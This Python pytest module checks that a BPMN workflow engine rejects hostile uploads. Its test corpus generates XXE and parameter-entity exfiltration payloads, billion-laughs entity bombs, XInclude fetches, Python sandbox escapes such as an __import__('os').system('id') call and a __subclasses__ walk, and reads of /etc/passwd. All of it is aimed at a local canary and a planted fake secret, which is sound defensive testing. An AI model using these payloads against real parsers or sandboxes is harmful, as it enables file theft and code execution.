"""S1 upload corpus (security.md §5, UP-01/UP-02): hostile and broken BPMN bundles are rejected fast and clearly;
real diagrams deploy.

Every hostile case is generated here. Each must raise DefinitionInvalid (or its subclass UploadRejected) whose
message names the problem (and the element where there is one) within 2 s, leak nothing from the local file the
XXE payloads point at, and open no connection to the canary port.
"""

from __future__ import annotations

import contextlib
import itertools
import resource
import socket
import threading
import time
from collections.abc import Callable
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from xml.sax.saxutils import escape
from xml.sax.saxutils import quoteattr

import pytest
import sqlalchemy as sa
from lxml import etree

from processes.engine.bundle import parse_bundle
from processes.engine.xmlsafe import parse_bpmn
from processes.errors import DefinitionInvalid
from processes.errors import UploadRejected
from processes.runtime import definitions
from processes.runtime.core import Runtime
from processes.runtime.models import ProcessDefinition
from tests.support import TEST_BPMN
from tests.support import read_bundle
from tests.support import test_registry

BPMN_NS = "http://www.omg.org/spec/BPMN/20100524/MODEL"
NAMESPACES = f'xmlns:bpmn="{BPMN_NS}" xmlns:spiffworkflow="http://spiffworkflow.org/bpmn/schema/1.0/core"'
SECRET = "S1-SECRET-7f3a9c-do-not-leak"
OPERATORS = set(test_registry())
TIME_LIMIT = 2.0  # seconds per rejection: a guard against hangs, not a benchmark

Files = dict[str, str | bytes]


# --- canary listener ------------------------------------------------------------------------------------------

class Canary:
    """A TCP listener on 127.0.0.1 that counts connections (an XXE or XInclude fetch would be one)."""

    def __init__(self) -> None:
        self._sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._sock.bind(("127.0.0.1", 0))
        self._sock.listen(16)
        self._sock.settimeout(0.05)
        self.port: int = self._sock.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self._sock.accept()
            except OSError:  # timeout, or closed
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        """Stop the thread and close the socket."""
        self._stop.set()
        self._thread.join(timeout=5)
        self._sock.close()


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    """One listener for the module; every test asserts it saw no connection."""
    listener = Canary()
    yield listener
    listener.close()
    assert listener.connections == 0, "a hostile upload made a network connection"


@pytest.fixture(scope="module")
def secret_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The local file the XXE and XInclude payloads try to read."""
    path = tmp_path_factory.mktemp("secret") / "passwd"
    path.write_text(f"root:x:0:0:{SECRET}:/root:/bin/sh\n", encoding="utf-8")
    return path


def test_canary_listener_counts_connections() -> None:
    listener = Canary()
    try:
        with socket.create_connection(("127.0.0.1", listener.port), timeout=2):
            pass
        deadline = time.monotonic() + 2
        while listener.connections == 0 and time.monotonic() < deadline:
            time.sleep(0.01)
        assert listener.connections == 1
    finally:
        listener.close()


# --- corpus builders --------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Ctx:
    """What a case needs at run time."""

    port: int
    secret: Path


@dataclass(frozen=True)
class Case:
    """A hostile bundle and what its rejection must say (substrings) and name (element id)."""

    id: str
    build: Callable[[Ctx], Files]
    expect: tuple[str, ...]
    element: str | None = None


def definitions_doc(body: str, *, head: str = "", extra: str = "") -> str:
    """A BPMN definitions document around body."""
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{head}'
            f'<bpmn:definitions {NAMESPACES} {extra} id="defs" targetNamespace="urn:s1">{body}</bpmn:definitions>')


def linear(*elements: str, pid: str = "p", executable: str = "true") -> str:
    """A process start → t1 → t2 … → end; the elements must carry ids t1, t2… in order."""
    ids = ["start"] + [f"t{i}" for i in range(1, len(elements) + 1)] + ["end"]
    flows = "".join(f'<bpmn:sequenceFlow id="f{i}" sourceRef="{a}" targetRef="{b}"/>'
                    for i, (a, b) in enumerate(itertools.pairwise(ids)))
    return (f'<bpmn:process id="{pid}" isExecutable="{executable}"><bpmn:startEvent id="start"/>'
            + "".join(elements) + '<bpmn:endEvent id="end"/>' + flows + "</bpmn:process>")


def task(tag: str, index: int, inner: str = "", attrs: str = "") -> str:
    """A flow node t<index>."""
    return f'<bpmn:{tag} id="t{index}" {attrs}>{inner}</bpmn:{tag}>'


def one_file(text: str | bytes, name: str = "upload.bpmn") -> Callable[[Ctx], Files]:
    """A bundle of one fixed file."""
    return lambda ctx: {name: text}


def with_script(source: str) -> Callable[[Ctx], Files]:
    """A script task t1 running source."""
    return one_file(definitions_doc(linear(task("scriptTask", 1, f"<bpmn:script>{escape(source)}</bpmn:script>"))))


def with_condition(condition: str) -> Callable[[Ctx], Files]:
    """An exclusive gateway `gw` with condition on its non-default flow."""
    return one_file(definitions_doc(
        '<bpmn:process id="p" isExecutable="true"><bpmn:startEvent id="start"/>'
        '<bpmn:exclusiveGateway id="gw" default="f_else"/><bpmn:userTask id="yes"/><bpmn:userTask id="no"/>'
        '<bpmn:endEvent id="e1"/><bpmn:endEvent id="e2"/>'
        '<bpmn:sequenceFlow id="f0" sourceRef="start" targetRef="gw"/>'
        '<bpmn:sequenceFlow id="f_if" sourceRef="gw" targetRef="yes">'
        f"<bpmn:conditionExpression>{escape(condition)}</bpmn:conditionExpression></bpmn:sequenceFlow>"
        '<bpmn:sequenceFlow id="f_else" sourceRef="gw" targetRef="no"/>'
        '<bpmn:sequenceFlow id="f1" sourceRef="yes" targetRef="e1"/>'
        '<bpmn:sequenceFlow id="f2" sourceRef="no" targetRef="e2"/></bpmn:process>'))


def with_timer(kind: str, expression: str) -> Callable[[Ctx], Files]:
    """An intermediate timer t1 whose timeDuration / timeDate / timeCycle is expression."""
    timer = f"<bpmn:timerEventDefinition><bpmn:{kind}>{escape(expression)}</bpmn:{kind}></bpmn:timerEventDefinition>"
    return one_file(definitions_doc(linear(task("intermediateCatchEvent", 1, timer))))


def with_loop(characteristics: str, tag: str = "userTask") -> Callable[[Ctx], Files]:
    """A task t1 with loop or multi-instance characteristics."""
    return one_file(definitions_doc(linear(task(tag, 1, characteristics))))


def cardinality(expression: str, completion: str = "") -> str:
    """multiInstanceLoopCharacteristics with a loopCardinality (and completion condition)."""
    done = f"<bpmn:completionCondition>{escape(completion)}</bpmn:completionCondition>" if completion else ""
    return ("<bpmn:multiInstanceLoopCharacteristics>"
            f"<bpmn:loopCardinality>{escape(expression)}</bpmn:loopCardinality>{done}"
            "</bpmn:multiInstanceLoopCharacteristics>")


def with_extension(tag: str, source: str) -> Callable[[Ctx], Files]:
    """A user task t1 carrying spiffworkflow:<tag> (preScript, postScript)."""
    ext = (f"<bpmn:extensionElements><spiffworkflow:{tag}>{escape(source)}</spiffworkflow:{tag}>"
           "</bpmn:extensionElements>")
    return one_file(definitions_doc(linear(task("userTask", 1, ext))))


def with_service(operator: str, value: str = "lead_department") -> Callable[[Ctx], Files]:
    """A service task t1 calling operator with one parameter expression."""
    ext = ("<bpmn:extensionElements>"
           f'<spiffworkflow:serviceTaskOperator id={quoteattr(operator)} resultVariable="out">'
           f'<spiffworkflow:parameters><spiffworkflow:parameter id="value" type="str" value={quoteattr(value)}/>'
           "</spiffworkflow:parameters></spiffworkflow:serviceTaskOperator></bpmn:extensionElements>")
    return one_file(definitions_doc(linear(task("serviceTask", 1, ext))))


def with_form(reference: str, forms: dict[str, str]) -> Callable[[Ctx], Files]:
    """A user task t1 whose formJsonSchemaFilename is reference, plus the given form files."""
    ext = ("<bpmn:extensionElements><spiffworkflow:properties>"
           f'<spiffworkflow:property name="formJsonSchemaFilename" value={quoteattr(reference)}/>'
           "</spiffworkflow:properties></bpmn:extensionElements>")
    bpmn = definitions_doc(linear(task("userTask", 1, ext)))
    return lambda ctx: {"form.bpmn": bpmn, **forms}


def with_head(head: Callable[[Ctx], str], body: str = "") -> Callable[[Ctx], Files]:
    """A valid diagram behind a DOCTYPE (entities, external DTD …)."""
    return lambda ctx: {"upload.bpmn": definitions_doc(linear() + body, head=head(ctx))}


def entities(declarations: str) -> Callable[[Ctx], str]:
    """An internal DTD subset with these declarations."""
    return lambda ctx: f"<!DOCTYPE bpmn:definitions [\n{declarations.format(port=ctx.port, secret=ctx.secret)}\n]>\n"


def simple() -> str:
    """The text of tests/bpmn/simple.bpmn."""
    return (TEST_BPMN / "simple.bpmn").read_text(encoding="utf-8")


def deep(depth: int) -> str:
    """A diagram with depth nested elements."""
    return definitions_doc(linear(task("userTask", 1, "<bpmn:extensionElements>" + "<x>" * depth + "</x>" * depth
                                          + "</bpmn:extensionElements>")))


def many_attributes(count: int, prefix: str = "") -> str:
    """A definitions element with count attributes (namespaced ones pass the XSD's anyAttribute)."""
    attrs = " ".join(f'{prefix}a{i}="{i}"' for i in range(count))
    return definitions_doc(linear(), extra=('xmlns:z="urn:z" ' if prefix else "") + attrs)


def cycle_doc() -> str:
    """A back edge: handle → again → handle."""
    return definitions_doc(
        '<bpmn:process id="p" isExecutable="true"><bpmn:startEvent id="start"/><bpmn:userTask id="handle"/>'
        '<bpmn:exclusiveGateway id="again" default="f_done"/><bpmn:endEvent id="end"/>'
        '<bpmn:sequenceFlow id="f0" sourceRef="start" targetRef="handle"/>'
        '<bpmn:sequenceFlow id="f1" sourceRef="handle" targetRef="again"/>'
        '<bpmn:sequenceFlow id="f_back" sourceRef="again" targetRef="handle">'
        "<bpmn:conditionExpression>rehandle</bpmn:conditionExpression></bpmn:sequenceFlow>"
        '<bpmn:sequenceFlow id="f_done" sourceRef="again" targetRef="end"/></bpmn:process>')


def subprocess_cycle_doc() -> str:
    """A back edge inside an embedded subprocess."""
    return definitions_doc(linear(task(
        "subProcess", 1, '<bpmn:startEvent id="s_start"/><bpmn:userTask id="s_a"/><bpmn:userTask id="s_b"/>'
        '<bpmn:sequenceFlow id="s0" sourceRef="s_start" targetRef="s_a"/>'
        '<bpmn:sequenceFlow id="s1" sourceRef="s_a" targetRef="s_b"/>'
        '<bpmn:sequenceFlow id="s2" sourceRef="s_b" targetRef="s_a"/>')))


def correlation_doc(expression: str) -> str:
    """A message catch event whose correlation property is retrieved by expression."""
    return definitions_doc(
        linear(task("intermediateCatchEvent", 1, '<bpmn:messageEventDefinition messageRef="m"/>'))
        + '<bpmn:message id="m" name="m"/><bpmn:correlationProperty id="cp" name="cp">'
        '<bpmn:correlationPropertyRetrievalExpression messageRef="m">'
        f"<bpmn:formalExpression>{escape(expression)}</bpmn:formalExpression>"
        "</bpmn:correlationPropertyRetrievalExpression></bpmn:correlationProperty>")


def message_payload_doc(expression: str) -> str:
    """A message throw event t1 whose payload is expression."""
    return definitions_doc(linear(task(
        "intermediateThrowEvent", 1, '<bpmn:messageEventDefinition messageRef="m"><bpmn:extensionElements>'
        f"<spiffworkflow:messagePayload>{escape(expression)}</spiffworkflow:messagePayload>"
        "</bpmn:extensionElements></bpmn:messageEventDefinition>")) + '<bpmn:message id="m" name="m"/>')


SUBCLASS_WALK = ("x = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
                 ".__init__.__globals__['system']('id')")
UTF16 = simple().replace('encoding="UTF-8"', 'encoding="UTF-16"')
XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"'

CORPUS: list[Case] = [
    # encoding, size and shape
    Case("truncated_xml", one_file(simple()[: len(simple()) // 2]), ("malformed XML", "Premature end")),
    Case("empty_file", one_file(""), ("malformed XML",)),
    Case("invalid_utf8", one_file(b'<?xml version="1.0"?><bpmn:definitions \xff\xfe\xc3\x28/>'), ("not UTF-8",)),
    Case("utf16_without_bom", one_file(UTF16.encode("utf-16-le")), ("not UTF-8",)),
    Case("utf16_declared_over_utf8_text", one_file(UTF16), ("malformed XML",)),
    Case("unpaired_surrogate", one_file(simple().replace("签收", "\ud800")), ("unpaired surrogate",)),
    Case("nul_character", one_file(simple().replace("签收", "签\x00收")), ("malformed XML",)),
    Case("nesting_10000_deep", one_file(deep(10_000)), ("malformed XML", "Excessive depth")),
    Case("attributes_100000", one_file(many_attributes(100_000)), ("100002 attributes",)),
    Case("namespaced_attributes_100000", one_file(many_attributes(100_000, "z:")), ("100002 attributes",)),
    Case("elements_1000000", one_file(definitions_doc(linear(task(
        "userTask", 1, "<bpmn:extensionElements>" + "<x/>" * 1_000_000 + "</bpmn:extensionElements>")))),
        ("more than 50000 XML elements",)),
    Case("larger_than_5mb", one_file(definitions_doc(linear()) + " " * (5 * 1024 * 1024 + 1)),
         ("larger than 5 MB",)),
    Case("wrong_namespace", one_file(simple().replace(BPMN_NS, BPMN_NS + "#")), ("not a BPMN 2.0 document",)),
    Case("not_bpmn_at_all", one_file("<html><body>hello</body></html>"), ("not a BPMN 2.0 document",)),
    Case("xsd_unknown_element", one_file(definitions_doc(linear(task("bogusTask", 1)))), ("bogusTask",)),
    Case("xsd_unknown_attribute", one_file(definitions_doc(linear(task("userTask", 1, attrs='colour="red"')))),
         ("colour",)),
    Case("xsd_duplicate_ids", one_file(definitions_doc(linear(task("userTask", 1), task("userTask", 1)))),
         ("'t1' is not a valid value",)),
    Case("xsd_loop_maximum_not_integer", with_loop('<bpmn:standardLoopCharacteristics loopMaximum="lots"/>'),
         ("loopMaximum", "lots")),
    # DOCTYPE, entities and external resources
    Case("xxe_local_file", with_head(entities('<!ENTITY x SYSTEM "file://{secret}">'),
                                     "<bpmn:documentation>&x;</bpmn:documentation>"), ("DOCTYPE",)),
    Case("xxe_canary_port", with_head(entities('<!ENTITY x SYSTEM "http://127.0.0.1:{port}/xxe">'),
                                      "<bpmn:documentation>&x;</bpmn:documentation>"), ("DOCTYPE",)),
    Case("parameter_entities", with_head(entities(
        '<!ENTITY % file SYSTEM "file://{secret}">\n'
        '<!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM \'http://127.0.0.1:{port}/?%file;\'>">\n%wrap;\n%send;')),
        ("DOCTYPE",)),
    Case("external_dtd_system", with_head(
        lambda ctx: f'<!DOCTYPE bpmn:definitions SYSTEM "http://127.0.0.1:{ctx.port}/x.dtd">\n'), ("DOCTYPE",)),
    Case("external_dtd_public", with_head(
        lambda ctx: f'<!DOCTYPE bpmn:definitions PUBLIC "-//S1//X" "http://127.0.0.1:{ctx.port}/p.dtd">\n'),
        ("DOCTYPE",)),
    Case("lowercase_doctype", with_head(lambda ctx: f'<!doctype bpmn:definitions SYSTEM "file://{ctx.secret}">\n'),
         ("DOCTYPE",)),
    Case("billion_laughs", with_head(entities('<!ENTITY l0 "ha">\n' + "\n".join(
        f'<!ENTITY l{i} "' + f"&l{i - 1};" * 10 + '">' for i in range(1, 10))),
        "<bpmn:documentation>&l9;</bpmn:documentation>"), ("DOCTYPE",)),
    Case("quadratic_blowup", with_head(entities('<!ENTITY a "' + "A" * 100_000 + '">'),
                                       "<bpmn:documentation>" + "&a;" * 10_000 + "</bpmn:documentation>"),
         ("DOCTYPE",)),
    Case("xinclude_local_file", lambda ctx: {"upload.bpmn": definitions_doc(
        linear() + f'<xi:include href="file://{ctx.secret}" parse="text"/>', extra=XI)}, ("XInclude",)),
    Case("xinclude_canary_port", lambda ctx: {"upload.bpmn": definitions_doc(
        linear() + f'<xi:include href="http://127.0.0.1:{ctx.port}/inc.xml"/>', extra=XI)}, ("XInclude",)),
    # scripts and expressions
    Case("script_import_call", with_script("__import__('os').system('id')"), ("__import__",), "t1"),
    Case("script_import_statement", with_script("import os\nos.system('id')"), ("import is not allowed",), "t1"),
    Case("script_subclass_walk", with_script(SUBCLASS_WALK), ("__subclasses__",), "t1"),
    Case("script_open", with_script("data = open('/etc/passwd').read()"), ("open() is not available",), "t1"),
    Case("script_format_map", with_script("s = '{a.__class__.__base__}'.format_map({'a': 1})"),
         (".format_map is not available",), "t1"),
    Case("script_format_leak", with_script("s = '{0.__class__}'.format(1)"), (".format is not available",), "t1"),
    Case("script_getattr", with_script("c = getattr(1, '__class__')"), ("getattr() is not available",), "t1"),
    Case("script_fstring_dunder", with_script("s = f'{x.__class__}'"), ("__class__",), "t1"),
    Case("script_fstring_huge_width", with_script("s = f'{x:>1000000000}'"), ("format widths",), "t1"),
    Case("script_while_true", with_script("while True:\n    pass"), ("while loops are not allowed",), "t1"),
    Case("script_lambda", with_script("f = lambda: 1"), ("defining functions",), "t1"),
    Case("script_syntax_error", with_script("x = = 1"), ("syntax error",), "t1"),
    Case("script_too_long", with_script("x = 1\n" * 1000), ("longer than 4000",), "t1"),
    Case("condition_power_tower", with_condition("10**10**10 > 1"), ("exponent",), "gw"),
    Case("condition_string_repeat", with_condition("len('x'*10**9) > 1"), ("repetition",), "gw"),
    Case("condition_import", with_condition("__import__('os').system('id') == 0"), ("__import__",), "gw"),
    Case("timer_duration_call", with_timer("timeDuration", "__import__('os').system('id')"), ("__import__",),
         "t1"),
    Case("timer_date_call", with_timer("timeDate", "open('/etc/passwd').read()"), ("open() is not available",),
         "t1"),
    Case("timer_cycle_power", with_timer("timeCycle", "'R' + str(10**10**10) + '/PT1S'"), ("exponent",), "t1"),
    Case("mi_cardinality_power", with_loop(cardinality("10**9")), ("cardinality 1000000000", "limit of 500"), "t1"),
    Case("mi_cardinality_literal", with_loop(cardinality("1000000000")), ("integer constant too large",), "t1"),
    Case("mi_cardinality_just_over", with_loop(cardinality("501")), ("cardinality 501",), "t1"),
    Case("mi_cardinality_fails", with_loop(cardinality("1/0")), ("ZeroDivisionError",), "t1"),
    Case("mi_completion_escape", with_loop(cardinality("3", "__import__('os')")), ("__import__",), "t1"),
    Case("loop_condition_escape", with_loop(
        "<bpmn:standardLoopCharacteristics><bpmn:loopCondition>open('/etc/passwd')</bpmn:loopCondition>"
        "</bpmn:standardLoopCharacteristics>"), ("open() is not available",), "t1"),
    Case("prescript_escape", with_extension("preScript", SUBCLASS_WALK), ("__subclasses__",), "t1"),
    Case("postscript_escape", with_extension("postScript", "import subprocess"), ("import is not allowed",), "t1"),
    Case("message_payload_escape", one_file(message_payload_doc("__import__('os').getcwd()")), ("__import__",),
         "t1"),
    Case("correlation_expression_escape", one_file(correlation_doc("__import__('os').getcwd()")), ("__import__",),
         "t1"),
    Case("unknown_service_operator", with_service("os.system"), ("unknown service operator 'os.system'",), "t1"),
    Case("service_parameter_escape", with_service("test.echo", "__import__('os').getcwd()"), ("__import__",), "t1"),
    # structure
    Case("sequence_flow_back_edge", one_file(cycle_doc()), ("loop", "handle → again → handle"), "handle"),
    Case("subprocess_back_edge", one_file(subprocess_cycle_doc()), ("loop", "s_a → s_b → s_a"), "s_a"),
    Case("linear_chain_5000", one_file(definitions_doc(linear(*[task("userTask", i) for i in range(1, 5001)]))),
         ("RecursionError",)),
    Case("missing_called_process", one_file(definitions_doc(linear(task(
        "callActivity", 1, attrs='calledElement="absent"')))), ("'absent' was not found",)),
    Case("missing_form_schema", with_form("missing.json", {}),
         ("form schema 'missing.json' is not in the bundle",), "t1"),
    Case("form_schema_not_json", with_form("bad.json", {"forms/bad.json": "{not json"}),
         ("forms/bad.json", "not valid JSON")),
    Case("form_schema_not_object", with_form("list.json", {"forms/list.json": "[1, 2]"}),
         ("forms/list.json", "JSON object")),
    Case("non_executable_process", one_file(definitions_doc(linear(executable="false"))),
         ("no executable process",)),
    Case("no_process", one_file(definitions_doc('<bpmn:message id="m" name="m"/>')), ("no executable process",)),
    Case("no_bpmn_file", lambda ctx: {"forms/a.json": "{}"}, ("no .bpmn file",)),
    Case("duplicate_process_ids", lambda ctx: {"a.bpmn": definitions_doc(linear(pid="dup")),
                                               "b.bpmn": definitions_doc(linear(pid="dup"))},
         ("Duplicate process ID: dup",)),
    Case("flow_to_missing_node", one_file(definitions_doc(linear().replace('targetRef="end"', 'targetRef="ghost"'))),
         ("ghost",)),
    Case("dmn_not_dmn", lambda ctx: {"p.bpmn": definitions_doc(linear()), "d.dmn": '<definitions xmlns="urn:x"/>'},
         ("not a DMN document",)),
]


def upload(files: Files, tmp_path: Path) -> None:
    """Parse a bundle the way it arrives: bytes go through the folder reader (UTF-8 check), text straight in."""
    if any(isinstance(v, bytes) for v in files.values()):
        for name, content in files.items():
            target = tmp_path / "bundle" / name
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
        parse_bundle(definitions.read_bundle_dir(tmp_path / "bundle"), process_id=None, operators=OPERATORS)
    else:
        parse_bundle({k: str(v) for k, v in files.items()}, process_id=None, operators=OPERATORS)


def test_corpus_has_at_least_40_hostile_cases() -> None:
    assert len(CORPUS) >= 40
    assert len({case.id for case in CORPUS}) == len(CORPUS)


@pytest.mark.parametrize("case", CORPUS, ids=lambda case: case.id)
def test_hostile_upload_is_rejected_quickly_and_clearly(case: Case, canary: Canary, secret_file: Path,
                                                        tmp_path: Path) -> None:
    files = case.build(Ctx(canary.port, secret_file))
    started = time.perf_counter()
    with pytest.raises(DefinitionInvalid) as info:
        upload(files, tmp_path)
    elapsed = time.perf_counter() - started
    message = str(info.value)
    assert elapsed < TIME_LIMIT, f"{case.id} took {elapsed:.2f} s"
    for expected in case.expect:
        assert expected in message, message
    if case.element is not None:
        assert info.value.element == case.element, message
    assert SECRET not in message
    assert canary.connections == 0


def test_xml_level_attacks_are_upload_rejections(canary: Canary, secret_file: Path, tmp_path: Path) -> None:
    ctx = Ctx(canary.port, secret_file)
    for case in CORPUS:
        if "DOCTYPE" in case.expect or "XInclude" in case.expect or "malformed XML" in case.expect:
            with pytest.raises(UploadRejected):
                upload(case.build(ctx), tmp_path / case.id)


def test_hardened_parser_refuses_entities_in_any_encoding(canary: Canary, secret_file: Path) -> None:
    """Bytes, not str: a DOCTYPE spelled in UTF-16 slips past a byte search but not the parsed-tree check."""
    doc = definitions_doc(linear() + "<bpmn:documentation>&x;</bpmn:documentation>",
                          head=f'<!DOCTYPE bpmn:definitions [<!ENTITY x SYSTEM "file://{secret_file}">]>\n')
    for data in (doc.encode("utf-8"), doc.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"),
                 doc.replace(f"file://{secret_file}", f"http://127.0.0.1:{canary.port}/").encode("utf-8")):
        with pytest.raises(UploadRejected) as info:
            parse_bpmn(data, filename="x.bpmn")
        assert "DOCTYPE" in str(info.value) or "malformed" in str(info.value)
        assert SECRET not in str(info.value)
    assert canary.connections == 0


def test_schema_hints_and_stylesheets_fetch_nothing(canary: Canary) -> None:
    """References the parser must never follow; whatever the verdict, no connection is made."""
    url = f"http://127.0.0.1:{canary.port}"
    docs = [
        definitions_doc(linear(), head=f'<?xml-stylesheet type="text/xsl" href="{url}/s.xsl"?>\n'),
        definitions_doc(linear(), extra='xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                                        f'xsi:schemaLocation="{BPMN_NS} {url}/BPMN20.xsd"'),
        definitions_doc(f'<bpmn:import importType="{BPMN_NS}" location="{url}/other.bpmn" namespace="urn:o"/>'
                        + linear()),
    ]
    for doc in docs:
        with contextlib.suppress(DefinitionInvalid):
            parse_bundle({"x.bpmn": doc}, process_id=None, operators=OPERATORS)
    assert canary.connections == 0


def test_the_whole_corpus_keeps_memory_flat(canary: Canary, secret_file: Path, tmp_path: Path) -> None:
    """S1: worker RSS growth < 50 MB over the corpus (peak RSS, so an upper bound on what an expansion costs)."""
    ctx = Ctx(canary.port, secret_file)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    for case in CORPUS:
        with pytest.raises(DefinitionInvalid):
            upload(case.build(ctx), tmp_path / case.id)
    grown_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown_kb < 50 * 1024, f"peak RSS grew by {grown_kb // 1024} MB"


def test_lxml_is_at_least_5() -> None:
    """security.md §2.2: lxml < 5 resolves external entities by default; CI fails on an old lxml."""
    assert etree.LXML_VERSION >= (5, 0, 0, 0)


# --- benign diagrams ---------------------------------------------------------------------------------------------

BENIGN: dict[str, tuple[str, ...]] = {
    "simple": ("simple.bpmn",),
    "rehandle_loop": ("rehandle_loop.bpmn",),
    "sandbox_probe": ("sandbox_probe.bpmn",),
    "parallel_review": ("parallel_review.bpmn",),
    "event_gateway": ("event_gateway.bpmn",),
    "call_parent": ("call_parent.bpmn", "call_child.bpmn"),
    "multi_instance": ("multi_instance.bpmn",),
    "mi_data_cardinality": ("mi_data_cardinality.bpmn",),
    "form_task": ("form_task.bpmn", "forms/complaint_form.json"),
}


@pytest.mark.parametrize("key", sorted(BENIGN))
def test_benign_diagram_parses(key: str) -> None:
    parsed = parse_bundle(read_bundle(*BENIGN[key]), process_id=None, operators=OPERATORS)
    assert parsed.process_id == key
    if key == "call_parent":
        assert set(parsed.subprocess_specs) == {"call_child"}


def test_benign_diagrams_deploy_and_publish(runtime: Runtime) -> None:
    with runtime.write() as session, session.begin():
        for key, names in sorted(BENIGN.items()):
            result = definitions.deploy(session, key, read_bundle(*names), actor="analyst", now=runtime.clock(),
                                        operators=runtime.handlers, publish=True)
            assert (result.created, result.version, result.status) == (True, 1, "published"), key
    with runtime.read() as session:
        keys = set(session.scalars(sa.select(ProcessDefinition.key)))
    assert keys == set(BENIGN)


def test_rejected_deploy_stores_nothing(runtime: Runtime, canary: Canary, secret_file: Path) -> None:
    ctx = Ctx(canary.port, secret_file)
    chosen = [c for c in CORPUS if c.id in {"xxe_local_file", "script_subclass_walk", "mi_cardinality_power",
                                           "sequence_flow_back_edge", "unknown_service_operator"}]
    assert len(chosen) == 5
    for case in chosen:
        files = {k: str(v) for k, v in case.build(ctx).items()}
        with pytest.raises(DefinitionInvalid), runtime.write() as session, session.begin():
            definitions.deploy(session, case.id, files, actor="analyst", now=runtime.clock(),
                               operators=runtime.handlers, publish=True)
    with runtime.read() as session:
        assert session.scalar(sa.select(sa.func.count()).select_from(ProcessDefinition)) == 0
    assert canary.connections == 0


def test_deploy_refuses_text_with_an_unpaired_surrogate(runtime: Runtime) -> None:
    from processes.errors import DefinitionInvalid
    from processes.runtime import definitions

    with pytest.raises(DefinitionInvalid, match="surrogate"), runtime.write() as session, session.begin():
        definitions.deploy(session, "bad", {"x.bpmn": "<a>\ud800</a>"}, actor="a", now=runtime.clock(),
                           operators=runtime.handlers)
